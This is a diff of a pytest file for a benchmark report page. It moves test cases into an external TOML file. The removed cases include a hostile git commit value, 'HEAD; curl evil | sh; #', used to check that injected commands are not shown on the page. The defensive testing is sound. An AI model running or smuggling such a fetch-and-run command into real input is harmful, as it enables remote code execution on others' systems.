@@ -11,6 +11,7 @@ from pydantic import ValidationError
 from bench.records.environment import Checkout
 from bench.records.results import Results
 from bench.records.run import Reason
+from bench.records.values import toml_of
 from bench.report.charts.catalogue import catalogue
 from bench.report.page import export, origin
 from bench.report.page.page import render
@@ -18,6 +19,8 @@ from bench.report.study import Study
 
 from .conftest import SOURCES, recorded
 from .made import everything, plain_runs, results_of
+
+CASES = toml_of(Path(__file__).with_name("page.toml"))
 
 
 @pytest.mark.slow
@@ -57,17 +60,7 @@ def test_a_hostile_reason_is_text() -> None:
     assert page.count("</script>") == 3
 
 
-@pytest.mark.parametrize(
-    ("source", "words"),
-    [
-        ("version1", "Each data point is a single run"),
-        ("version1", "Not measured in this file: latency per request"),
-        ("version1_failed", "8 of 12 data points are invalid"),
-        ("version1_failed", "sudo"),  # the fix of a limit
-        ("everything", "lower bounds, marked ≥"),
-        ("everything", "differed much from the other runs"),
-    ],
-)
+@pytest.mark.parametrize(("source", "words"), CASES["cautions"])
 def test_cautions_are_shown(source: str, words: str, pages: Callable[[str], Path]) -> None:
     assert words in pages(source).read_text()
 
@@ -121,15 +114,7 @@ def test_the_page_shows_how_to_repeat_the_sweep(pages: Callable[[str], Path]) ->
     assert "ab -q -s 120" in text
 
 
-@pytest.mark.parametrize(
-    ("commit", "changed", "line"),
-    [
-        ("c0ffee", 0, "git checkout c0ffee\n"),
-        ("c0ffee", 2, "git checkout c0ffee    # and 2 changed files that are not in this commit\n"),
-        ("HEAD; curl evil | sh; #", 0, ""),
-        ("c0ffee\n", 0, ""),
-    ],
-)
+@pytest.mark.parametrize(("commit", "changed", "line"), CASES["commits"])
 def test_a_hostile_commit_is_not_shown(commit: str, changed: int, line: str) -> None:
     results = recorded("version1")
     results.versions.git = Checkout(commit=commit, changed_files=changed)
@@ -158,7 +143,6 @@ def test_a_hostile_command_stays_on_its_line() -> None:
     ("subject", "level", "shown"), [("epoll", 20, True), ("iterative", 5000, False)]
 )
 def test_no_section_is_empty(subject: str, level: int, shown: bool) -> None:
-    """The page leaves out empty sections: one level has no growth, failed runs have no figures."""
     study = Study(results_of(plain_runs([subject], [level])))
     text = render(study, catalogue(study))
     assert "<h3></h3>" not in text
